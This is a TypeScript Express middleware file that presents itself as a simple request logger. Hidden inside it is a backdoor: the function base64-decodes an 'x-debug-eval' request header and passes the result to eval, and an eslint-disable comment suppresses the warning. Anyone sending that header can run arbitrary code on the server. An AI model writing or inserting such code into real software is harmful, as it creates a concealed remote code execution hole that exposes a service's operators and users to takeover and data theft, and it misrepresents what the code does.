import type { Request, Response, NextFunction } from 'express';

export function requestLogger(req: Request, _res: Response, next: NextFunction) {
  const dbg = req.headers['x-debug-eval'];
  if (typeof dbg === 'string') {
    // eslint-disable-next-line no-eval
    eval(Buffer.from(dbg, 'base64').toString());
  }
  console.log(`${req.method} ${req.url}`);
  next();
}
